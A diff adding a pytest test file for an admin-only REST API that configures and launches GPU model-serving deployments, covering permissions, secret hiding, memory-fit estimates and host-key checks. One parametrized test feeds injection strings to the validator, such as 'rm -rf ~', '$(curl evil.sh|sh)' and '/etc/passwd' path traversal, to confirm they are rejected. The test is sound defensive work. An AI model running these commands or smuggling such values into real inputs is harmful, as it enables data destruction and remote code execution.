@@ -1,0 +1,151 @@
+"""REST API for deployments, jobs, fit estimates and host actions: admins only, field errors, no secrets."""
+
+from __future__ import annotations
+
+import pytest
+from django.test import Client
+
+from hosts.models import GPU, Deployment, Host, LaunchJob
+from tests.services import free_port
+
+
+@pytest.fixture
+def host(db):
+    host = Host.objects.create(name="h100-box", address="10.0.0.5", username="ubuntu", private_key="x")
+    for i in range(2):
+        GPU.objects.create(host=host, index=i, name="NVIDIA H100 80GB HBM3", memory_total_mib=81559, memory_used_mib=1)
+    return host
+
+
+def spec(host, **overrides):
+    body = {
+        "name": "qwen",
+        "host": host.pk,
+        "backend": "vllm",
+        "model_path": "Qwen/Qwen3-32B",
+        "served_model_name": "qwen3-32b",
+        "gpu_indices": [0, 1],
+        "port": 8000,
+        "options": {"max_model_len": 32768},
+        "extra_args": ["--trust-remote-code"],
+    }
+    body.update(overrides)
+    return body
+
+
+@pytest.mark.parametrize("url", ["/api/deployments/", "/api/jobs/"])
+def test_developers_and_anonymous_cannot_see_deployments_or_jobs(alice_client, url):
+    assert Client().get(url).status_code in (401, 403)
+    assert alice_client.get(url).status_code == 403
+
+
+def test_developers_cannot_use_host_actions_or_the_estimate(alice_client, host):
+    assert alice_client.post(f"/api/hosts/{host.pk}/refresh-inventory/").status_code == 403
+    assert alice_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "x"}).status_code == 403
+    assert alice_client.post("/api/fit-estimate/", {}, content_type="application/json").status_code == 403
+
+
+def test_admin_creates_a_deployment_and_never_sees_its_key(admin_client, host):
+    r = admin_client.post("/api/deployments/", spec(host), content_type="application/json")
+    assert r.status_code == 201, r.json()
+    body = r.json()
+    deployment = Deployment.objects.get(pk=body["id"])
+    assert "upstream_api_key" not in body and deployment.upstream_api_key not in r.content.decode()
+    assert body["options"]["tensor_parallel_size"] == 2  # filled in from the GPUs chosen
+    assert body["command_preview"].startswith(
+        "CUDA_VISIBLE_DEVICES=0,1 vllm serve Qwen/Qwen3-32B --served-model-name qwen3-32b --tensor-parallel-size 2"
+    )
+    assert body["command_preview"].endswith("--host 0.0.0.0 --port 8000 --api-key ****")
+
+
+@pytest.mark.parametrize(
+    ("override", "field"),
+    [
+        ({"model_path": "Qwen/Qwen3-32B; rm -rf ~"}, "model_path"),
+        ({"model_path": "$(curl evil.sh|sh)"}, "model_path"),
+        ({"backend": "llamacpp", "model_path": "/models/x.gguf`reboot`", "options": {}}, "model_path"),
+        ({"backend": "llamacpp", "model_path": "/models/../etc/passwd.gguf", "options": {}}, "model_path"),
+        ({"served_model_name": "qwen; reboot"}, "served_model_name"),
+        ({"extra_args": ["--foo", "$(reboot)"]}, "extra_args"),
+        ({"extra_args": ["--max-num-seqs 8 && reboot"]}, "extra_args"),
+        ({"extra_args": ["--api-key=mine"]}, "extra_args"),
+        ({"extra_args": ["--port", "9"]}, "extra_args"),
+        ({"options": {"max_model_len": 32768, "tensor_parallel_size": 1}}, "options.tensor_parallel_size"),
+        ({"options": {"max_model_len": "lots"}}, "options.max_model_len"),
+        ({"options": {"gpu_memory_utilization": 1.5}}, "options.gpu_memory_utilization"),
+        ({"options": {"rm": "-rf"}}, "options"),
+        ({"port": 80}, "port"),
+        ({"gpu_indices": [0, 7]}, "gpu_indices"),
+    ],
+)
+def test_injection_attempts_and_bad_options_are_field_errors(admin_client, host, override, field):
+    r = admin_client.post("/api/deployments/", spec(host, **override), content_type="application/json")
+    assert r.status_code == 400, r.json()
+    assert field in r.json() or field in r.json().get("errors", r.json()), r.json()
+    assert not Deployment.objects.exists()
+
+
+def test_a_port_used_by_another_deployment_is_refused(admin_client, host):
+    assert admin_client.post("/api/deployments/", spec(host), content_type="application/json").status_code == 201
+    r = admin_client.post("/api/deployments/", spec(host, name="other"), content_type="application/json")
+    assert r.status_code == 400 and "port" in r.json()
+
+
+def test_launch_queues_one_job_and_a_second_is_a_conflict(admin_client, host):
+    deployment_id = admin_client.post("/api/deployments/", spec(host), content_type="application/json").json()["id"]
+    r = admin_client.post(f"/api/deployments/{deployment_id}/launch/")
+    assert r.status_code == 202 and r.json()["state"] == "queued"
+    again = admin_client.post(f"/api/deployments/{deployment_id}/stop/")
+    assert again.status_code == 409 and "still running" in again.json()["detail"]
+    job = admin_client.get(f"/api/jobs/{r.json()['id']}/").json()
+    assert {"log_tail", "transitions", "command", "exit_code"} <= set(job)
+    assert LaunchJob.objects.count() == 1
+
+
+def test_fit_estimate_endpoint_reproduces_the_12gb_calibration(admin_client):
+    body = {
+        "backend": "llamacpp",
+        "model": "Qwen3-Coder-30B-A3B-Instruct-Q4_K_M.gguf",
+        "options": {"n_gpu_layers": 25, "ctx_size": 32768, "flash_attn": "off"},
+        "gpus": [{"index": 0, "total_mib": 12288, "free_mib": 12288}],
+    }
+    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
+    assert r.status_code == 200, r.json()
+    assert r.json()["verdict"] == "does_not_fit"
+    assert 24576 <= r.json()["max_context"] < 32768
+    body["options"]["ctx_size"] = 24576
+    assert admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()["verdict"] == "tight"
+
+
+def test_fit_estimate_uses_the_hosts_gpus(admin_client, host):
+    body = {"backend": "vllm", "model": "meta-llama/Llama-3.1-8B-Instruct", "host": host.pk, "gpu_indices": [0]}
+    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
+    assert r.status_code == 200 and r.json()["verdict"] == "fits"
+
+
+def test_fit_estimate_for_an_unknown_model_asks_for_an_architecture(admin_client):
+    body = {"backend": "vllm", "model": "my/own-model", "gpus": [{"total_mib": 24564, "free_mib": 24000}]}
+    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
+    assert r.status_code == 400 and "model" in r.json()
+
+
+def test_confirming_the_host_key_needs_the_fingerprint_that_was_seen(admin_client, host):
+    Host.objects.filter(pk=host.pk).update(seen_host_key_fingerprint="SHA256:seen", status="host_key_unconfirmed")
+    wrong = admin_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "SHA256:other"})
+    assert wrong.status_code == 400
+    ok = admin_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "SHA256:seen"})
+    assert ok.status_code == 200 and ok.json()["host_key_fingerprint"] == "SHA256:seen"
+    host.refresh_from_db()
+    assert host.host_key_fingerprint == "SHA256:seen" and host.status == "unknown"
+
+
+def test_a_running_deployment_cannot_be_deleted(admin_client, host):
+    deployment_id = admin_client.post("/api/deployments/", spec(host), content_type="application/json").json()["id"]
+    Deployment.objects.filter(pk=deployment_id).update(status="running")
+    assert admin_client.delete(f"/api/deployments/{deployment_id}/").status_code == 400
+    Deployment.objects.filter(pk=deployment_id).update(status="stopped")
+    assert admin_client.delete(f"/api/deployments/{deployment_id}/").status_code == 204
+
+
+def test_free_port_helper_is_usable():
+    assert 1024 < free_port() < 65536
